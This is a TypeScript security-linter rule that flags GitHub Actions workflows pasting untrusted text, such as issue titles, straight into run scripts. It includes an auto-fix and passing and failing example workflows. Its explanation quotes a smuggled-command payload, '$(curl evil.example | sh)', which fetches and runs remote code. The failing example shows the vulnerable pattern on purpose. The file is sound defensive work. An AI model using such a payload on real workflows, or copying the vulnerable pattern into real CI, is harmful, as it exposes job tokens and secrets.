import { cannotJudge, defineRule, type Edit, fail, partial, pass, skip } from "../../src/rule.ts";

const WHO = {
  stranger: "anybody can choose",
  quoted: "quotes what strangers wrote",
  releaser: "whoever publishes a release chooses",
  starter: "whoever starts the workflow types in",
  pusher: "whoever can push chooses",
};

export default defineRule({
  title: "Scripts of workflows take in no text from outside",
  severity: "critical",
  why: "An expression is pasted into the script before the shell reads it: a title such as $(curl evil.example | sh) runs with the job's token and secrets.",
  fix: 'Put the expression into `env:` of the step (`TITLE: ${{ github.event.issue.title }}`) and write `"$TITLE"` in the script, or `process.env.TITLE` in JavaScript.',
  references: [
    "https://docs.github.com/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections",
  ],
  peers: ["Scorecard Dangerous-Workflow", "zizmor template-injection", "actionlint expression", "poutine injection"],
  appliesTo: "any",
  scope: "repository",
  needs: ["scriptInjections"],
  check({ scriptInjections: { injections, hasWorkflows, unread } }) {
    const places = injections.map(({ path, line, ...found }) => ({ path, line, found }));
    const open = places.filter(({ found }) => found.author !== "starter" && found.author !== "pusher");
    if (open.length > 0) return fail(open);
    // Only people who can write to the repository can send these: high for an input, medium for a push.
    if (places.length > 0) return partial(places.some(({ found }) => found.author === "starter") ? 0.3 : 0.5, places);
    if (unread[0]) cannotJudge(`${unread[0].path} could not be read: ${unread[0].reason}`);
    return hasWorkflows ? pass() : skip("there are no GitHub workflows");
  },
  message: ({ found: { source, author } }) => `The script takes in ${source}, which ${WHO[author]}, as code.`,
  repair: (_facts, places) =>
    places.flatMap(({ path, found: { lift } }): readonly Edit[] => {
      if (!path || !lift) return [];
      const { line, piece, by, step, variable } = lift;
      const lifted: Edit = { kind: "replace", path, line, piece, by };
      if (!variable) return [lifted];
      return [{ kind: "set", path, ...step, at: ["env", variable.name], value: variable.value }, lifted];
    }),
  examples: {
    passes: {
      ".github/workflows/greet.yml":
        'on: issues\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          TITLE: ${{ github.event.issue.title }}\n        run: echo "$TITLE"\n',
    },
    fails: {
      ".github/workflows/greet.yml":
        'on: issues\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "${{ github.event.issue.title }}"\n',
    },
  },
});
